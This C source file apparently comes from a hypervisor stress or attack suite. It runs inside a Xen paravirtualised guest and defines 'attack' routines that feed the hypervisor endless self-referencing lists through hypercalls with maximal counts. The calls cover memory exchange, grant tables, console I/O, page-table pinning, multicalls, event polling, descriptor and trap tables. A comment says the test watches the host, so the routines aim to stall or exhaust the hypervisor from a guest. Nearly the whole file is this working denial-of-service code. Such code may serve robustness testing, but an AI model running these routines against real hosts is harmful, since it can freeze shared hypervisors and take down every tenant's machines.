/* Calls whose length the guest says: lists of which every page is the same one, as long as the count can be. */
#include "attack.h"

struct exchange { struct memory_reservation in, out; u64 done; };

static void told(s64 result, u64 began) { print("END result %d after %u ms\n", result, (now() - began) / 1000000); }

void attack_exchange(void) {
    u64 lists = endless(), count = option("count", 4294967295), began = now();
    static struct exchange x;
    if (!lists) { print("END no window\n"); return; }
    repeated[0] = p2m[start_info->nr_pages - 1];
    x.in = (struct memory_reservation){(u64 *)lists, count, 0, 0, DOMID_SELF};
    /* What the first round gives out is what the second one takes in. */
    x.out = (struct memory_reservation){(u64 *)(lists + 8), count, 0, 0, DOMID_SELF};
    x.done = 0;
    print("BEGIN\n");
    told(hypercall(HYPERVISOR_memory_op, XENMEM_exchange, (u64)&x, 0, 0), began);
}

void attack_cacheflush(void) {
    u64 lists = endless(), began = now();
    clear_bytes(repeated, sizeof repeated);
    print("BEGIN\n");
    told(hypercall(HYPERVISOR_grant_table_op, 12, lists, option("count", 2147483647), 0), began);
}

void attack_console(void) {
    u64 lists = endless(), began = now();
    for (u64 i = 0; i < sizeof repeated; i++) ((u8 *)repeated)[i] = option("char", '\n');
    print("BEGIN\n");
    for (u64 i = 0; i < option("rounds", 1000); i++) hypercall(HYPERVISOR_console_io, 0, 0x7fffffff, lists, 0);
    told(0, began);
}

/* A tree of as many tables as memory has room for, all its entries used: pinned and unpinned. */
void attack_pin(void) {
    static u8 tables[2][PAGE] __attribute__((aligned(4096), section(".bss.page")));
    u64 began = now(), rounds = option("rounds", 20), frames = option("tables", 1024), first = start_info->nr_pages - frames;
    u64 *l3 = (u64 *)tables[0];
    u64 l2s = frames / 512 ? frames / 512 : 1, at = first;
    for (u64 t = 0; t < l2s; t++) {
        u64 l2 = p2m[at++];
        u64 *v = map_frame(l2, 3);
        for (int i = 0; i < 512; i++) {
            u64 l1 = p2m[first + l2s + (t * 511 + i) % (frames - l2s)];
            v[i] = l1 << 12 | PTE_WR;
        }
        l3[t] = l2 << 12 | PTE_WR;
    }
    for (u64 n = l2s; n < frames; n++) {
        u64 *v = map_frame(p2m[first + n], 3);
        for (int i = 0; i < 512; i++) v[i] = mfn_of(tables[1]) << 12 | PTE_WR;
    }
    set_entry((void *)map_frame(mfn_of(tables[1]), 3), 0, UVMF_INVLPG);
    set_entry(tables[0], mfn_of(tables[0]) << 12 | PTE_RO, UVMF_INVLPG);
    print("BEGIN\n");
    s64 r = 0;
    for (u64 i = 0; i < rounds && !r; i++) {
        r = mmuext(MMUEXT_PIN_L3_TABLE, mfn_of(tables[0]));
        if (!r) r = mmuext(MMUEXT_UNPIN_TABLE, mfn_of(tables[0]));
    }
    told(r, began);
}

/*
 * Every call with a count, the largest count, and a list without end of which the entries are well-formed ("call" says which).
 * Those that end at once with an error are as good as those that go on: the test watches the host.
 */
void attack_calls(void) {
    u64 lists = endless(), began = now(), call = option("call", 0);
    s64 r = -1;
    static u32 done;
    clear_bytes(repeated, sizeof repeated);
    print("BEGIN\n");
    switch (call) {
    case 0: /* multicall of xen_version */
        for (int i = 0; i < REPEATED / 8; i++) ((struct multicall *)repeated)[i] = (struct multicall){HYPERVISOR_xen_version, 0, {0}};
        r = hypercall(HYPERVISOR_multicall, lists, 0x0fffffff, 0, 0);
        break;
    case 1: /* mmu_update: M2P of one frame */
        for (int i = 0; i < REPEATED / 2; i++) ((struct update *)repeated)[i] = (struct update){mfn_of(pool[0]) << 12 | 1, 1};
        r = hypercall(HYPERVISOR_mmu_update, lists, 0x7fffffff, (u64)&done, DOMID_SELF);
        break;
    case 2: /* mmuext: flushes */
    case 3: /* pages cleared */
    case 4: /* pages copied */
        for (int i = 0; i < REPEATED / 3; i++)
            ((struct mmuext *)repeated)[i] = (struct mmuext){call == 2 ? MMUEXT_TLB_FLUSH_ALL : call == 3 ? 16 : 17, 0, mfn_of(pool[0]), mfn_of(pool[1])};
        r = hypercall(HYPERVISOR_mmuext_op, lists, 0x7fffffff, (u64)&done, DOMID_SELF);
        break;
    case 5: case 6: case 7: case 8: case 9: /* grants: map, unmap, copy, swap, transfer */
        r = hypercall(HYPERVISOR_grant_table_op, (u64[]){0, 1, 5, 11, 4}[call - 5], lists, 0x7fffffff, 0);
        break;
    case 10: { /* events: poll of more ports than may be, one that has no event again and again */
        struct { u32 vcpu, port; } ipi = {0, 0};
        hypercall(HYPERVISOR_event_channel_op, EVTCHNOP_bind_ipi, (u64)&ipi, 0, 0);
        for (int i = 0; i < REPEATED; i++) repeated[i] = (u64)ipi.port << 32 | ipi.port;
        struct { u64 ports; u32 count; u64 timeout; } p = {lists, 0x7fffffff, 0};
        r = hypercall(HYPERVISOR_sched_op, SCHEDOP_poll, (u64)&p, 0, 0);
        break;
    }
    case 11: /* descriptor tables of more pages than may be, an empty one again and again */
        set_entry(pool[2], mfn_of(pool[2]) << 12 | PTE_RO, UVMF_INVLPG);
        for (int i = 0; i < REPEATED; i++) repeated[i] = mfn_of(pool[2]);
        r = hypercall(HYPERVISOR_set_gdt, lists, 0x7fffffff, 0, 0);
        break;
    case 12: /* trap table without end */
        for (int i = 0; i < REPEATED / 2; i++) ((struct trap_info *)repeated)[i] = (struct trap_info){200, 0, KERNEL_CS, 0, 1};
        r = hypercall(HYPERVISOR_set_trap_table, lists, 0, 0, 0);
        break;
    case 13: { /* frame lists of the host */
        struct { u32 most, pad; u64 list; u32 n; } m = {0xffffffff, 0, lists, 0};
        for (u64 i = 0; i < 100000; i++) r = hypercall(HYPERVISOR_memory_op, XENMEM_machphys_mfn_list, (u64)&m, 0, 0);
        break;
    }
    case 14: { /* multicall of calls that are long themselves */
        for (int i = 0; i < REPEATED / 8; i++)
            ((struct multicall *)repeated)[i] = (struct multicall){HYPERVISOR_console_io, 0, {0, 0x7fffffff, lists}};
        r = hypercall(HYPERVISOR_multicall, lists, 0x0fffffff, 0, 0);
        break;
    }
    }
    told(r, began);
}
